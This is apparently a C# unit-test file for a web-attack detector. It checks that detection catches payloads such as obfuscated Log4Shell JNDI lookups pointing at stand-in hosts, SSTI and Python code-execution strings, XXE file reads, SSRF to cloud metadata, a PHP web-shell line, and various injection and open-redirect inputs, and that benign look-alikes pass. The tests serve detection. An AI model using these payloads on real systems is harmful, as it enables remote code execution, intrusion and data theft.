using InfiniteSecurity.Detection;
using static InfiniteSecurity.Detection.UnitTests.DetectionAssertions;

namespace InfiniteSecurity.Detection.UnitTests;

[TestFixture]
public sealed class OtherFamilyDetectionTests
{
    [TestCase("${jndi:ldap://203.0.113.1:1389/o}")]
    [TestCase("${${lower:J}${lower:N}${lower:D}${lower:I}:rmi://e.test/x}")]
    [TestCase("${${::-j}ndi:dns://e.test/y}")]
    [TestCase("${${env:UNSET:-j}${env:UNSET:-n}di:ldap://e.test/z}")]
    [TestCase("%24%7Bjndi%3Aldap%3A%2F%2Fe.test%2Fq%7D")]
    public void Log4shell_lookups_are_detected_through_nesting(string input) => AssertDetectedAs(input, ThreatCategory.Log4Shell);

    [TestCase("{{9*9}}", ThreatCategory.Ssti)]
    [TestCase("{{ cycler.__init__.__globals__.os.popen('id').read() }}", ThreatCategory.Ssti)]
    [TestCase("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/issue\">]><r>&e;</r>", ThreatCategory.Xxe)]
    [TestCase("<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://e.test/x.dtd\"> %p;]>", ThreatCategory.Xxe)]
    [TestCase("http://169.254.169.254/latest/meta-data/hostname?x=1", ThreatCategory.Ssrf)]
    [TestCase("http://0x7f.0.0.1:6379/", ThreatCategory.Ssrf)]
    [TestCase("page=http://e.test/payload.txt?", ThreatCategory.Rfi)]
    [TestCase("<?php echo shell_exec($_GET['x']); ?>", ThreatCategory.CodeInjection)]
    [TestCase("__import__('subprocess').check_output('id')", ThreatCategory.CodeInjection)]
    [TestCase("{\"user\": {\"$ne\": 1}, \"pass\": {\"$ne\": 1}}", ThreatCategory.NoSqlInjection)]
    [TestCase("x%0d%0aSet-Cookie:%20sid=fixed", ThreatCategory.CrlfInjection)]
    [TestCase("<!--#include virtual=\"/web.config\"-->", ThreatCategory.SsiInjection)]
    [TestCase("reader@example.org%0ABcc:%20all@e.test", ThreatCategory.MailInjection)]
    [TestCase("__proto__[polluted]=yes", ThreatCategory.PrototypePollution)]
    [TestCase("//e.test/%2f..", ThreatCategory.OpenRedirect)]
    [TestCase("/\\e.test", ThreatCategory.OpenRedirect)]
    [TestCase("https://trusted.example@e.test/", ThreatCategory.OpenRedirect)]
    [TestCase("?return=https://e.test/login", ThreatCategory.OpenRedirect)]
    public void Family_technique_is_detected_with_its_type(string input, string category) => AssertDetectedAs(input, category);

    [TestCase("Render {{ title }} in the header")]
    [TestCase("Config lives in ${HOME}/.app")]
    [TestCase("<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Ann</to></note>")]
    [TestCase("https://www.example.org/projects/widget")]
    [TestCase("Price $0.015 USDC on Base, $gt in Mongo docs")]
    [TestCase("The __proto__ property is deprecated")]
    [TestCase("Ratio 3*3 = 9 in the {braces} example")]
    public void Look_alikes_of_other_families_stay_benign(string input) => AssertBenign(input);
}
